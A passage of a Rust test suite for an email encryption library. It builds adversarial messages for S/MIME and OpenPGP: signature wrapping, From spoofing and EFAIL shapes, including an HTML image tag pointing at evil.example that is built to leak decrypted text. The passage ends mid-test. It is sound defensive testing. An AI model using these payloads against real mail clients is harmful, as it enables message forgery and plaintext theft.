//! Adversarial mail through the public `open()` (issue 5, "Must show"): signature spoofing,
//! From tricks, EFAIL direct exfiltration and reply-oracle shapes, for S/MIME and OpenPGP.
//!
//! Nothing here is forged cryptographically. Every malicious message is spliced together as
//! MIME text from genuine signed or encrypted messages: `protect()` output made with the
//! gpg / openssl fixture keys (tests/data/openpgp, tests/data/smime), or committed openssl /
//! gpg output. The attacks follow
//!
//! - J. Müller et al., "Johnny, you are fired! – Spoofing OpenPGP and S/MIME Signatures in
//!   Emails", USENIX Security 2019 (MIME wrapping, From / display-name tricks, partially
//!   signed messages),
//! - D. Poddebniak et al., "Efail: Breaking S/MIME and OpenPGP Email Encryption using
//!   Exfiltration Channels", USENIX Security 2018 (direct exfiltration with nested
//!   ciphertexts, CBC malleability),
//! - J. Müller et al., "Re: What's up Johnny? – Covert Content Attacks on Email End-to-End
//!   Encryption", ACNS 2019 (hidden parts quoted in replies, wrapped ciphertexts),
//! - D. Davis, "Defective Sign & Encrypt in S/MIME, PKCS#7, MOSS, PEM, PGP, and XML", USENIX
//!   2001 (surreptitious forwarding).
//!
//! Runs natively and in wasm under Node.

mod common;

use common::{fixture, ring_of as ring, rng, write_ctx, Ready, NOW};
use mailseal::mime::Draft;
use mailseal::standards::all as engines;
use mailseal::warning::WarningCode;
use mailseal::{
    open, protect, EncryptionState, ImportOptions, Message, Method, MethodChoice, OpenOptions,
    Opened, ProtectOptions, Scope, SignatureState,
};

#[cfg(target_arch = "wasm32")]
use wasm_bindgen_test::wasm_bindgen_test as test;

/// One standard's cast: alice signs and sends, bob reads.
struct Std {
    method: Method,
    alice: &'static str,
    bob: &'static str,
    /// What alice holds: her secret key, bob's public key, shared anchors.
    alice_ring: &'static [&'static str],
    /// What bob holds: his secret key, alice's public key, shared anchors.
    bob_ring: &'static [&'static str],
}

const SMIME: Std = Std {
    method: Method::Smime,
    alice: "alice@example.com",
    bob: "bob@example.com",
    alice_ring: &[
        "trusted:smime/root-ca.crt",
        "smime/int-ca.crt",
        "smime/alice.crt",
        "smime/alice.key",
        "smime/bob.crt",
    ],
    bob_ring: &[
        "trusted:smime/root-ca.crt",
        "smime/int-ca.crt",
        "smime/bob.crt",
        "smime/bob.key",
        "smime/alice.crt",
    ],
};

const PGP: Std = Std {
    method: Method::Pgp,
    alice: "alice@example.org",
    bob: "bob@example.org",
    // Each side has verified the other's key (`trusted`): only then is a signature `valid`.
    alice_ring: &[
        "trusted:openpgp/alice.sec.asc",
        "trusted:openpgp/bob.pub.asc",
    ],
    bob_ring: &[
        "trusted:openpgp/bob.sec.asc",
        "trusted:openpgp/alice.pub.asc",
    ],
};

const BOTH: [&Std; 2] = [&SMIME, &PGP];

const GENUINE: &str = "Your refund of 20 EUR was approved.";
const ATTACKER: &str = "Please wire 9000 EUR to IBAN XX00 EVIL today.";
const SECRET: &str = "SECRET-launch-code-0451";
const MALLORY: &str = "mallory@evil.example";

/// What a `protect()` call should make.
#[derive(Clone, Copy)]
struct Make {
    sign: bool,
    encrypt: bool,
    protect_headers: bool,
}

const SIGNED: Make = Make {
    sign: true,
    encrypt: false,
    protect_headers: false,
};
const ENCRYPTED: Make = Make {
    sign: false,
    encrypt: true,
    protect_headers: false,
};

/// A genuine message from alice to bob, made by `protect()` with the fixture keys.
fn genuine(std: &Std, make: Make, text: &str) -> Vec<u8> {
    protect_as(std, make, Message::Draft(&draft(std, text)))
}

fn draft(std: &Std, text: &str) -> Draft {
    Draft {
        from: format!("Alice <{}>", std.alice),
        to: vec![std.bob.to_string()],
        subject: "Your ticket #4711".to_string(),
        text: Some(text.to_string()),
        message_id: Some("4711@desk.example".to_string()),
        ..Draft::default()
    }
}

fn protect_as(std: &Std, make: Make, message: Message<'_>) -> Vec<u8> {
    let mut ring = ring(std.alice_ring);
    let mut opts = ProtectOptions::new(make.sign, make.encrypt, NOW);
    opts.protect_headers = Some(make.protect_headers);
    opts.encrypt_to_self = false;
    opts.method = match std.method {
        Method::Smime => MethodChoice::Smime,
        Method::Pgp => MethodChoice::Pgp,
    };
    let out = protect(&mut ring, &engines(), message, &opts, &mut rng())
        .unwrap_or_else(|e| panic!("{:?}: protect: {e}", std.method));
    assert_eq!(out.deliveries.len(), 1);
    let d = &out.deliveries[0];
    assert_eq!((d.signed, d.encrypted), (make.sign, make.encrypt));
    d.mime.clone()
}

/// Bob opens `raw` with his keyring.
fn open_as_bob(std: &Std, raw: &[u8]) -> Opened {
    let mut ring = ring(std.bob_ring);
    open(&mut ring, &engines(), raw, &OpenOptions::at(NOW)).expect("open")
}

// ---- MIME splicing (text only: no cryptography is touched) ---------------------------------

/// Header block (without the blank line) and body of a message.
fn split(raw: &[u8]) -> (String, String) {
    let s = String::from_utf8(raw.to_vec()).expect("protect writes 7-bit mail");
    let (head, body) = s.split_once("\r\n\r\n").expect("header/body separator");
    (head.to_string(), body.to_string())
}

/// The header fields of a block, each with its continuation lines.
fn fields(head: &str) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    for line in head.split("\r\n") {
        match out.last_mut() {
            Some(last) if line.starts_with([' ', '\t']) => {
                last.push_str("\r\n");
                last.push_str(line);
            }
            _ => out.push(line.to_string()),
        }
    }
    out
}

fn field_name(field: &str) -> String {
    field
        .split(':')
        .next()
        .unwrap_or_default()
        .trim()
        .to_ascii_lowercase()
}

/// The MIME entity of a message: its Content-* fields and body, as a part to nest.
fn entity(raw: &[u8]) -> String {
    let (head, body) = split(raw);
    let content: Vec<String> = fields(&head)
        .into_iter()
        .filter(|f| field_name(f).starts_with("content-"))
        .collect();
    format!("{}\r\n\r\n{body}", content.join("\r\n"))
}

/// `raw` with every field called `name` removed and `new` fields (whole lines) put first.
fn with_fields(raw: &[u8], name: &str, new: &[&str]) -> Vec<u8> {
    let (head, body) = split(raw);
    let mut out: Vec<String> = new.iter().map(|s| s.to_string()).collect();
    out.extend(
        fields(&head)
            .into_iter()
            .filter(|f| field_name(f) != name.to_ascii_lowercase()),
    );
    format!("{}\r\n\r\n{body}", out.join("\r\n")).into_bytes()
}

/// A whole message from `from` around `entity`.
fn message(from: &str, entity: &str) -> Vec<u8> {
    format!(
        "From: {from}\r\nTo: desk@example.net\r\nSubject: Your ticket #4711\r\n\
         Message-ID: <spliced@evil.example>\r\nMIME-Version: 1.0\r\n{entity}"
    )
    .into_bytes()
}

/// A multipart entity of the given subtype with `parts` (each a whole entity).
fn multipart(subtype: &str, parts: &[String]) -> String {
    let b = format!("=_{subtype}_attacker");
    let mut s = format!("Content-Type: multipart/{subtype}; boundary=\"{b}\"\r\n\r\n");
    for p in parts {
        s.push_str(&format!("--{b}\r\n{p}\r\n"));
    }
    s.push_str(&format!("--{b}--\r\n"));
    s
}

fn text_part(text: &str) -> String {
    format!("Content-Type: text/plain; charset=us-ascii\r\n\r\n{text}\r\n")
}

fn html_part(html: &str) -> String {
    format!("Content-Type: text/html; charset=us-ascii\r\n\r\n{html}\r\n")
}

// ---- assertions ------------------------------------------------------------------------------

fn assert_not_valid(o: &Opened, case: &str) {
    assert_ne!(
        o.signature.state,
        SignatureState::Valid,
        "{case}: {:?}",
        o.signature
    );
}

/// Whether `needle` appears anywhere in what `open` returned (report, text, headers,
/// warnings, attachment bytes).
fn anywhere(o: &Opened, needle: &str) -> bool {
    let json = serde_json::to_string(o).expect("serialize");
    let mut text = format!("{json}{o:?}");
    for a in &o.attachments {
        text.push_str(&String::from_utf8_lossy(&a.data));
    }
    text.contains(needle)
}

fn shown_text(o: &Opened) -> String {
    format!(
        "{}\n{}\n{}",
        o.text.as_deref().unwrap_or_default(),
        o.html.as_deref().unwrap_or_default(),
        o.quote_for_reply
    )
}

// ---- the genuine messages open as they should (the baseline the attacks start from) --------

/// Baseline: the genuine signed message is `valid`, whole, bound to alice.
#[test]
fn the_genuine_messages_are_valid() {
    for std in BOTH {
        for hp in [false, true] {
            let make = Make {
                protect_headers: hp,
                ..SIGNED
            };
            let o = open_as_bob(std, &genuine(std, make, GENUINE));
            let case = format!("{:?} hp={hp}", std.method);
            assert_eq!(o.signature.state, SignatureState::Valid, "{case}");
            assert_eq!(o.signature.scope, Some(Scope::Whole), "{case}");
            assert!(o.text.as_deref().unwrap_or_default().contains(GENUINE));
        }
    }
}

// ---- MIME wrapping: signed and unsigned parts side by side ---------------------------------

/// "Johnny, you are fired" (MIME attacks: wrapping, partially signed messages): attacker text in a
/// `multipart/mixed` before, or after, a genuine validly signed part. The signature covers
/// only that part, so the message is never `valid`, the scope is `partial`, and the report
/// says the message is shown as unsigned.
#[test]
fn fail_unsigned_text_beside_a_signed_part_is_partial() {
    for std in BOTH {
        let signed = entity(&genuine(std, SIGNED, GENUINE));
        let before = multipart("mixed", &[text_part(ATTACKER), signed.clone()]);
        let after = multipart("mixed", &[signed.clone(), text_part(ATTACKER)]);
        let html = multipart(
            "mixed",
            &[
                html_part(&format!("<p>{ATTACKER}</p>")),
                signed.clone(),
                html_part("<p>Regards</p>"),
            ],
        );
        // The preferred (last) alternative is the attacker's; the signed one is a decoy.
        let alternative = multipart("alternative", &[signed.clone(), text_part(ATTACKER)]);
        for (shape, entity) in [
            ("before", before),
            ("after", after),
            ("around, html", html),
            ("alternative", alternative),
        ] {
            let case = format!("{:?} attacker text {shape}", std.method);
            let o = open_as_bob(std, &message(&format!("Alice <{}>", std.alice), &entity));
            assert_not_valid(&o, &case);
            assert_eq!(o.signature.scope, Some(Scope::Partial), "{case}");
            let detail = o.signature.detail.as_deref().unwrap_or_default();
            assert!(
                detail.contains("Only a part of this message is signed")
                    && detail.contains("unsigned"),
                "{case}: {detail:?}"
            );
            assert!(
                shown_text(&o).contains(ATTACKER),
                "{case}: the text is shown"
            );
            assert!(
                o.signature.signer.is_none(),
                "{case}: nobody is named as signer"
            );
        }
    }
}

/// "Johnny, you are fired" (MIME attacks: partially signed messages) on the encrypted channel:
/// anyone with bob's public key can encrypt attacker text next to alice's genuine signed part, so
/// decryption must not lend the signed part's verdict to the whole.
#[test]
fn fail_encrypted_wrapper_around_a_partly_signed_message_is_partial() {
    for std in BOTH {
        let signed = entity(&genuine(std, SIGNED, GENUINE));
        let inner = message(
            &format!("Alice <{}>", std.alice),
            &multipart("mixed", &[text_part(ATTACKER), signed]),
        );
        let mut inner = with_fields(&inner, "to", &[&format!("To: {}", std.bob)]);
        inner = with_fields(&inner, "from", &[&format!("From: {}", std.alice)]);
        // Encrypt-only: the attacker needs nobody's secret key.
        let wrapped = protect_as(std, ENCRYPTED, Message::Raw(&inner));
        let o = open_as_bob(std, &wrapped);
        let case = format!("{:?}", std.method);
        assert_eq!(o.encryption.state, EncryptionState::Decrypted, "{case}");
        assert_not_valid(&o, &case);
        assert_eq!(o.signature.scope, Some(Scope::Partial), "{case}");
        if std.method == Method::Smime {
            assert_eq!(o.encryption.authenticated, Some(false), "{case}: CBC");
        }
    }
}

/// OpenPGP inline (RFC 4880 §7): attacker text around a genuine signed block in the same text
/// part: a cleartext-signed block, a signed message (`gpg -s -a`) and a signed and encrypted
/// one (`gpg -s -e -a`). Only the block's text is shown, and the verdict is not `valid` (the
/// signed message was `valid` and `whole`, found by the interop sweep).
#[test]
fn fail_text_around_an_inline_signed_block_is_partial() {
    for (file, from) in [
        ("openpgp/clearsign-alice.asc", "alice@example.org"),
        ("openpgp/signed-bob.asc", "bob@example.org"),
        ("openpgp/signenc-alice.asc", "alice@example.org"),
    ] {
        let block = String::from_utf8(fixture(file).to_vec()).unwrap();
        let block = block.replace("\r\n", "\n").replace('\n', "\r\n");
        let text = |body: String| format!("Content-Type: text/plain; charset=utf-8\r\n\r\n{body}");
        // the block alone is valid: the shapes below change only what is around it
        let alone = open_as_bob(&PGP, &message(from, &text(block.clone())));
        assert_eq!(alone.signature.state, SignatureState::Valid, "{file}");
        for (shape, entity) in [
            ("before", text(format!("{ATTACKER}\r\n\r\n{block}"))),
            ("after", text(format!("{block}\r\n{ATTACKER}\r\n"))),
            (
                "next part",
                multipart("mixed", &[text(block.clone()), html_part(ATTACKER)]),
            ),
        ] {
            let case = format!("{file}, {shape}");
            let o = open_as_bob(&PGP, &message(from, &entity));
            assert_not_valid(&o, &case);
            assert_eq!(o.signature.scope, Some(Scope::Partial), "{case}");
            assert!(
                !shown_text(&o).contains(ATTACKER),
                "{case}: unsigned text shown"
            );
            assert!(
                o.warnings.iter().any(|w| w.message.contains("not signed")),
                "{case}: {:?}",
                o.warnings
            );
        }
    }
}

/// Attacker text first and a genuine cleartext-signed block in a later part (`multipart/mixed`
/// or `related`): the message is shown as unsigned with the "only a part is signed" sentence,
/// as for a PGP/MIME or S/MIME part; no warning calls the block an encrypted part (it did,
/// found by the verdict sweep).
#[test]
fn fail_attacker_text_before_an_inline_signed_part_is_partial() {
    let block = String::from_utf8(fixture("openpgp/clearsign-alice.asc").to_vec()).unwrap();
    let block = block.replace("\r\n", "\n").replace('\n', "\r\n");
    let signed = format!("Content-Type: text/plain; charset=utf-8\r\n\r\n{block}");
    for kind in ["mixed", "related"] {
        let entity = multipart(kind, &[text_part(ATTACKER), signed.clone()]);
        let o = open_as_bob(&PGP, &message("Alice <alice@example.org>", &entity));
        assert_not_valid(&o, kind);
        assert_eq!(o.signature.scope, Some(Scope::Partial), "{kind}");
        let detail = o.signature.detail.as_deref().unwrap_or_default();
        assert!(
            detail.contains("Only a part of this message is signed"),
            "{kind}: {detail:?}"
        );
        assert!(
            !o.warnings
                .iter()
                .any(|w| w.code == mailseal::warning::WarningCode::NestedEncryptedPart),
            "{kind}: {:?}",
            o.warnings
        );
    }
}

/// A PGP/MIME `multipart/signed` whose signature part holds no detached signature (a whole
/// signed message, or garbage): a bad signature of the message, not an error that leaves the
/// desk without a report (it failed with `malformed_message`, found by the verdict sweep; the
/// S/MIME form was already a verdict).
#[test]
fn fail_a_signature_part_without_a_signature_is_invalid_not_an_error() {
    let whole = String::from_utf8(fixture("openpgp/signed-bob.asc").to_vec()).unwrap();
    for (case, signature) in [
        ("a signed message", whole.as_str()),
        ("garbage", "not a signature"),
    ] {
        let entity = format!(
            "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; \
             micalg=pgp-sha256; boundary=\"sig\"\r\n\r\n--sig\r\n{}\r\n--sig\r\n\
             Content-Type: application/pgp-signature\r\n\r\n{}\r\n--sig--\r\n",
            text_part(ATTACKER),
            signature.replace("\r\n", "\n").replace('\n', "\r\n")
        );
        let o = open_as_bob(&PGP, &message("Bob <bob@example.org>", &entity));
        assert_eq!(o.signature.state, SignatureState::Invalid, "{case}");
        assert!(
            shown_text(&o).contains(ATTACKER),
            "{case}: shown, unverified"
        );
    }
}

/// Line ends changed in transit to hide signed text: the signed part's blank line after its
/// header made a lone CR (MIME parsers then read the first paragraph as a header line) and one
/// CRLF made a bare LF, so that a verifier tries the CRLF form. Bytes that verify must be the
/// bytes shown: never `valid` (it was `valid` and `whole` with the paragraph gone, in both
/// standards; found by the CMS sweep; openssl and gpg say bad signature).
#[test]
fn fail_a_lone_cr_that_hides_signed_text_is_not_valid() {
    for std in BOTH {
        let case = format!("{:?}", std.method);
        let two_paragraphs = format!("I do NOT authorize the transfer.\n\n{GENUINE}");
        let raw = String::from_utf8(genuine(std, SIGNED, &two_paragraphs)).unwrap();
        let genuine_open = open_as_bob(std, raw.as_bytes());
        assert_eq!(
            genuine_open.signature.state,
            SignatureState::Valid,
            "{case}"
        );
        let boundary = raw
            .split("boundary=\"")
            .nth(1)
            .and_then(|rest| rest.split('"').next())
            .unwrap();
        let part = raw.find(&format!("--{boundary}\r\n")).unwrap() + boundary.len() + 4;
        let blank = part + raw[part..].find("\r\n\r\n").unwrap();
        let next = blank + 4 + raw[blank + 4..].find("\r\n").unwrap();
        let tampered = format!(
            "{}\r\n\r{}\n{}",
            &raw[..blank],
            &raw[blank + 4..next],
            &raw[next + 2..]
        );
        let o = open_as_bob(std, tampered.as_bytes());
        assert_ne!(
            o.signature.state,
            SignatureState::Valid,
            "{case}: {:?}",
            o.signature
        );
    }
}

/// Enigmail's inline shape with files: a signed text (cleartext or `gpg -s -a`) first in a
/// `multipart/mixed`, plain files beside it (`doc.pdf`, its detached `doc.pdf.sig`). The files
/// are listed, not signed, and the message is only partly signed. With the cleartext text they
/// were dropped without a word (found by the interop sweep).
#[test]
fn files_beside_an_inline_signed_text_are_listed_unsigned() {
    let file = |name: &str, body: &str| {
        format!(
            "Content-Type: application/octet-stream; name=\"{name}\"\r\n\
             Content-Disposition: attachment; filename=\"{name}\"\r\n\r\n{body}\r\n"
        )
    };
    for (fixture_file, from) in [
        ("openpgp/clearsign-alice.asc", "alice@example.org"),
        ("openpgp/signed-bob.asc", "bob@example.org"),
    ] {
        let block = String::from_utf8(fixture(fixture_file).to_vec()).unwrap();
        let block = block.replace("\r\n", "\n").replace('\n', "\r\n");
        let text = format!("Content-Type: text/plain; charset=utf-8\r\n\r\n{block}");
        let entity = multipart(
            "mixed",
            &[
                text,
                file("doc.pdf", "%PDF-1.4"),
                file("doc.pdf.sig", "sig"),
            ],
        );
        let o = open_as_bob(&PGP, &message(from, &entity));
        assert_not_valid(&o, fixture_file);
        assert_eq!(o.signature.scope, Some(Scope::Partial), "{fixture_file}");
        let names: Vec<(&str, bool)> = o
            .attachments
            .iter()
            .map(|a| (a.filename.as_str(), a.signed))
            .collect();
        assert_eq!(
            names,
            [("doc.pdf", false), ("doc.pdf.sig", false)],
            "{fixture_file}"
        );
        // nothing here was encrypted: no warning says a file was not
        assert!(
            !o.warnings
                .iter()
                .any(|w| w.message.contains("not encrypted")),
            "{fixture_file}: {:?}",
            o.warnings
        );
    }
}

/// The reverse: text the attacker hides in the preamble or epilogue of a genuine
/// `multipart/signed` (RFC 2046 §5.1.1: not displayed) is not shown and does not disturb the
/// verdict.
#[test]
fn preamble_and_epilogue_of_a_signed_message_are_not_shown() {
    for std in BOTH {
        let raw = String::from_utf8(genuine(std, SIGNED, GENUINE)).unwrap();
        let (head, body) = raw.split_once("\r\n\r\n").unwrap();
        let spliced = format!("{head}\r\n\r\n{ATTACKER}\r\n{body}\r\n{ATTACKER}\r\n");
        let o = open_as_bob(std, spliced.as_bytes());
        let case = format!("{:?}", std.method);
        assert_eq!(o.signature.state, SignatureState::Valid, "{case}");
        assert!(!shown_text(&o).contains(ATTACKER), "{case}");
    }
}

/// "Johnny, you are fired" (MIME attacks: wrapping): a genuine signed message forwarded as an
/// attachment (`message/rfc822`, or a `.eml` / `.p7m` file) inside an unsigned message is
/// not a signature of that message: never `valid`, the signed message stays an attachment.
#[test]
fn fail_signed_message_as_an_attachment_is_not_valid() {
    for std in BOTH {
        let signed = genuine(std, SIGNED, GENUINE);
        let signed_text = String::from_utf8(signed.clone()).unwrap();
        let rfc822 = format!(
            "Content-Type: message/rfc822\r\nContent-Disposition: inline\r\n\r\n{signed_text}"
        );
        let file = format!(
            "Content-Type: application/octet-stream; name=\"signed.eml\"\r\n\
             Content-Disposition: attachment; filename=\"signed.eml\"\r\n\r\n{signed_text}"
        );
        let from = format!("Alice <{}>", std.alice);
        let mut cases = vec![
            (
                "message/rfc822 after text",
                message(
                    &from,
                    &multipart("mixed", &[text_part(ATTACKER), rfc822.clone()]),
                ),
            ),
            ("message/rfc822 alone", message(&from, &rfc822)),
            (
                "file",
                message(&from, &multipart("mixed", &[text_part(ATTACKER), file])),
            ),
        ];
        if std.method == Method::Smime {
            // The opaque form as an Outlook-style smime.p7m attachment.
            let mut ring = ring(std.alice_ring);
            let mut opts = ProtectOptions::new(true, false, NOW);
            opts.method = MethodChoice::Smime;
            opts.policy.algorithms.smime_signed_form = mailseal::policy::SmimeSignedForm::Opaque;
            let out = protect(
                &mut ring,
                &engines(),
                Message::Draft(&draft(std, GENUINE)),
                &opts,
                &mut rng(),
            )
            .unwrap();
            let opaque = entity(&out.deliveries[0].mime).replacen(
                "Content-Type:",
                "Content-Disposition: attachment; filename=\"smime.p7m\"\r\nContent-Type:",
                1,
            );
            cases.push((
                "opaque smime.p7m attachment",
                message(&from, &multipart("mixed", &[text_part(ATTACKER), opaque])),
            ));
        }
        for (shape, raw) in cases {
            let case = format!("{:?} {shape}", std.method);
            let o = open_as_bob(std, &raw);
            assert_not_valid(&o, &case);
            assert!(
                !o.warnings
                    .iter()
                    .any(|w| w.message.contains("encrypted part")),
                "{case}: a signed attachment is not an encrypted one: {:?}",
                o.warnings
            );
            assert!(o.signature.signer.is_none(), "{case}");
            assert!(!o.attachments.is_empty(), "{case}: listed as an attachment");
            assert!(
                !o.quote_for_reply.contains(GENUINE),
                "{case}: the attached message is not the displayed text"
            );
        }
    }
}

// ---- From tricks ------------------------------------------------------------------------

/// "Johnny, you are fired" (ID attacks: signer not bound to the sender): alice's genuine signed
/// message re-sent with another From. The signature is good but not the sender's:
/// `sender_mismatch`.
#[test]
fn fail_resent_with_another_from_is_sender_mismatch() {
    for std in BOTH {
        for hp in [false, true] {
            let make = Make {
                protect_headers: hp,
                ..SIGNED
            };
            let raw = genuine(std, make, GENUINE);
            for from in [
                format!("From: Mallory <{MALLORY}>"),
                format!("From: {}", std.bob),
            ] {
                let case = format!("{:?} hp={hp} {from}", std.method);
                let o = open_as_bob(std, &with_fields(&raw, "from", &[&from]));
                assert_eq!(
                    o.signature.state,
                    SignatureState::SenderMismatch,
                    "{case}: {:?}",
                    o.signature
                );
                let signer = o.signature.signer.as_ref().expect("signer named");
                assert!(signer.emails.contains(&std.alice.to_string()), "{case}");
                assert_eq!(o.headers.from_differs, hp, "{case}");
            }
        }
    }
}

/// "Johnny, you are fired" (ID attacks: display name spoofing): a display name that looks like
/// alice's address around mallory's addr-spec binds to mallory, never `valid`. The reverse
/// (alice's addr-spec with a misleading display name) is alice and stays `valid`.
#[test]
fn display_name_tricks_bind_to_the_addr_spec() {
    for std in BOTH {
        for hp in [false, true] {
            let make = Make {
                protect_headers: hp,
                ..SIGNED
            };
            let raw = genuine(std, make, GENUINE);
            let a = std.alice;
            for from in [
                format!("From: \"{a}\" <{MALLORY}>"),
                format!("From: {a} <{MALLORY}>"),
                format!("From: \"Alice <{a}>\" <{MALLORY}>"),
                format!("From: =?utf-8?Q?{}?= <{MALLORY}>", a.replace('@', "=40")),
                format!("From: {MALLORY} ({a})"),
            ] {
                let case = format!("{:?} hp={hp} {from}", std.method);
                let o = open_as_bob(std, &with_fields(&raw, "from", &[&from]));
                assert_not_valid(&o, &case);
                assert_eq!(o.signature.state, SignatureState::SenderMismatch, "{case}");
                if !hp {
                    // The shown From names mallory's address as the address.
                    let shown = o.headers.from.clone().unwrap_or_default();
                    assert!(shown.ends_with(&format!("<{MALLORY}>")), "{case}: {shown}");
                }
            }
            // A display name with specials is shown quoted, not as a second address.
            let o = open_as_bob(
                std,
                &with_fields(&raw, "from", &[&format!("From: \"{a}\" <{MALLORY}>")]),
            );
            if !hp {
                assert_eq!(
                    o.headers.from,
                    Some(format!("\"{a}\" <{MALLORY}>")),
                    "{:?}",
                    std.method
                );
            }
            for from in [
                format!("From: \"{MALLORY}\" <{a}>"),
                format!(
                    "From: \"Bank of Example (Security Team)\" <{}>",
                    a.to_uppercase()
                ),
                format!("From: {a} (not really {MALLORY})"),
            ] {
                let case = format!("{:?} hp={hp} {from}", std.method);
                let o = open_as_bob(std, &with_fields(&raw, "from", &[&from]));
                assert_eq!(
                    o.signature.state,
                    SignatureState::Valid,
                    "{case}: {:?}",
                    o.signature
                );
                assert!(!o.headers.from_differs, "{case}");
            }
        }
    }
}

/// "Johnny, you are fired" (ID attacks: multiple From fields / mailboxes, RFC 5322 §3.6.2): no
/// single sender to bind the signature to, so never `valid`, whichever one a client displays.
#[test]
fn fail_two_from_fields_or_several_mailboxes_are_never_valid() {
    for std in BOTH {
        for hp in [false, true] {
            let make = Make {
                protect_headers: hp,
                ..SIGNED
            };
            let raw = genuine(std, make, GENUINE);
            let a = std.alice;
            let shapes: [&[String]; 9] = [
                &[format!("From: {a}"), format!("From: {MALLORY}")],
                &[format!("From: {MALLORY}"), format!("From: {a}")],
                &[format!("From: {a}"), format!("FROM: {MALLORY}")],
                // Obsolete syntax and broken line ends other parsers may read differently.
                &[format!("From: {a}"), format!("From : {MALLORY}")],
                &[format!("From: {a}\r\n \r\nFrom: {MALLORY}")],
                &[format!("From: {a}\rFrom: {MALLORY}")],
                &[format!("From: {a}, {MALLORY}")],
                &[format!("From: {MALLORY}, Alice <{a}>")],
                &[format!("From: Friends: {a}, {MALLORY};")],
            ];
            for from in shapes {
                let from: Vec<&str> = from.iter().map(String::as_str).collect();
                let case = format!("{:?} hp={hp} {from:?}", std.method);
                let o = open_as_bob(std, &with_fields(&raw, "from", &from));
                assert_not_valid(&o, &case);
                assert!(o.signature.state != SignatureState::None, "{case}");
                // The outer From shown names mallory too, not alice alone next to "not
                // signed by its sender" (with protected headers the signed From is shown).
                if !hp {
                    let shown = o.headers.from.clone().unwrap_or_default();
                    assert!(shown.contains(MALLORY), "{case}: shown {shown:?}");
                }
            }
        }
    }
}

/// RFC 9788 header protection against "Johnny, you are fired" (ID attacks): the From inside the
/// signature differs from the outer From. Not `valid`, and `headers.fromDiffers` tells.
/// Both directions: mallory replaces the outer From of alice's message, and alice signs a
/// protected From of someone else while sending as herself (the display would show the
/// protected one).
#[test]
fn fail_protected_from_differing_from_outer_from_is_not_valid() {
    use mailseal::mime::{build_draft, protect_headers};
    for std in BOTH {
        let hp = Make {
            protect_headers: true,
            ..SIGNED
        };
        let raw = genuine(std, hp, GENUINE);
        let o = open_as_bob(
            std,
            &with_fields(&raw, "from", &[&format!("From: {MALLORY}")]),
        );
        let case = format!("{:?} outer From replaced", std.method);
        assert_not_valid(&o, &case);
        assert!(o.headers.from_differs, "{case}");
        assert!(o.headers.protected, "{case}");

        // Alice signs an entity whose protected From names carol, with her own engine.
        let mut d = draft(std, GENUINE);
        d.from = "Carol <carol@example.net>".to_string();
        let built = build_draft(&d, NOW, &mut rng()).unwrap();
        let inner = protect_headers(built.entity, &built.headers, false, false).unwrap();
        let ring = ring(std.alice_ring);
        let engine = engines()
            .into_iter()
            .find(|e| e.method() == std.method)
            .unwrap();
        let algorithms = mailseal::Algorithms::default();
        let mut r = rng();
        let mut ctx = write_ctx(&mut r, &algorithms);
        let signed = engine
            .sign(&ring, std.alice, inner.entity.clone(), &mut ctx)
            .ready()
            .unwrap();
        let mut raw = format!(
            "From: Alice <{}>\r\nTo: {}\r\nMIME-Version: 1.0\r\n",
            std.alice, std.bob
        )
        .into_bytes();
        raw.extend_from_slice(&signed);
        let o = open_as_bob(std, &raw);
        let case = format!("{:?} protected From is carol", std.method);
        assert_not_valid(&o, &case);
        assert!(o.headers.from_differs, "{case}");
        assert_eq!(
            o.headers.from.as_deref(),
            Some("Carol <carol@example.net>"),
            "{case}: the protected From is what is shown"
        );

        // The same, signed and encrypted to bob (signature inside the encryption).
        let encrypted = engine
            .encrypt(
                &ring,
                &[std.bob.to_string()],
                Some(std.alice),
                inner.entity,
                &mut ctx,
            )
            .ready()
            .unwrap();
        let mut raw = format!(
            "From: Alice <{}>\r\nTo: {}\r\nMIME-Version: 1.0\r\n",
            std.alice, std.bob
        )
        .into_bytes();
        raw.extend_from_slice(&encrypted);
        let o = open_as_bob(std, &raw);
        let case = format!("{:?} protected From is carol, encrypted", std.method);
        assert_eq!(o.encryption.state, EncryptionState::Decrypted, "{case}");
        assert_not_valid(&o, &case);
        assert!(o.headers.from_differs, "{case}");
        if std.method == Method::Smime {
            // AES-CBC: a signature that is not `valid` authenticates nothing.
            assert_eq!(o.encryption.authenticated, Some(false), "{case}");
        }
    }
}

// ---- EFAIL and reply oracles: nested ciphertexts are never decrypted -------------------------

/// EFAIL direct exfiltration (Poddebniak et al., USENIX Security 2018): a genuine
/// ciphertext for bob between two attacker HTML parts that would turn its plaintext into an
/// image URL. The nested ciphertext is not decrypted (encryption `none`), the secret appears
/// nowhere in the result, the ciphertext is an attachment and a warning says so.
#[test]
fn fail_efail_direct_exfiltration_is_not_decrypted() {
    for std in BOTH {
        let secret = format!("The code is {SECRET}.");
        let encrypted = genuine(std, ENCRYPTED, &secret);
        // Sanity: bob can read the genuine message, so a leak would be visible.
        let o = open_as_bob(std, &encrypted);
        assert_eq!(o.encryption.state, EncryptionState::Decrypted);
        assert!(o.text.as_deref().unwrap_or_default().contains(SECRET));

        let ciphertext = entity(&encrypted);
        let open_tag = html_part("<img src=\"http://evil.example/?");
        let close_tag = html_part("\">");
        let from = format!("Alice <{}>", std.alice);
        let mut shapes = vec![
            (
                "mixed html/ciphertext/html",
                multipart(
                    "mixed",
                    &[open_tag.clone(), ciphertext.clone(), close_tag.clone()],
                ),
            ),
            (
                "plain text, ciphertext, html",
                multipart(
                    "mixed",
                    &[
                        text_part("See below."),
                        ciphertext.clone(),
                        close_tag.clone(),
                    ],
                ),
            ),
            (
                "related",
                multipart(
                    "related",
                    &[open_tag.clone(), ciphertext.clone(), close_tag],
                ),
            ),
            (
                "ciphertext second",
                multipart("mixed", &[text_part("Hello"), ciphertext.clone()]),
            ),
            (
                "ciphertext as a file between html parts",
                multipart(
                    "mixed",
                    &[
                        html_part("<img src=\"http://evil.example/?"),
                        ciphertext_file(std, &encrypted),
                        html_part("\">"),
                    ],
                ),
            ),
        ];
        if std.method == Method::Pgp {
            // The armored message itself in a text part (inline PGP), not first in the
            // multipart: never the message's own layer.
            let armored = armored(&encrypted);
            shapes.push((
                "inline armored text part",
                multipart(
                    "mixed",
                    &[
                        html_part("<img src=\"http://evil.example/?"),
                        text_part(&armored),
                        html_part("\">"),
                    ],
                ),
            ));
        }
        for (shape, entity) in shapes {
            let case = format!("{:?} {shape}", std.method);
            let o = open_as_bob(std, &message(&from, &entity));
            assert_eq!(
                o.encryption.state,
                EncryptionState::None,
                "{case}: {:?}",
                o.encryption
            );
